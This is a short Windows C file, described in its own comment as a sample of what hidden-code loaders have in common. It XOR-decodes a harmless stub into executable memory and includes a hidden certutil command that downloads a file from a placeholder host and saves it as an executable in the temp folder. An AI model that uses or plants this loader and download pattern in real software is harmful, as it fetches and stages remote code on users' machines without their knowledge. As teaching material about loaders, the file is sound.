/* What loaders of hidden code share: `mov eax, 0; ret` behind a key, and a line for the shell. */
#include <windows.h>
static const unsigned char packed[] = {0xB8 ^ 0x5D, 0x5D, 0x5D, 0x5D, 0x5D, 0xC3 ^ 0x5D};
static int opened;
static void *unpacked(void) {
    unsigned char *place = VirtualAlloc(NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    for (int i = 0; i < (int)sizeof packed; i++) place[i] = packed[i] ^ 0x5D;
    return place;
}
static void act(void) {
    if (opened++ == 0) WinExec("cmd /c certutil -urlcache -f http://cdn.example.invalid/p.txt %TEMP%\\p.exe", SW_HIDE);
}
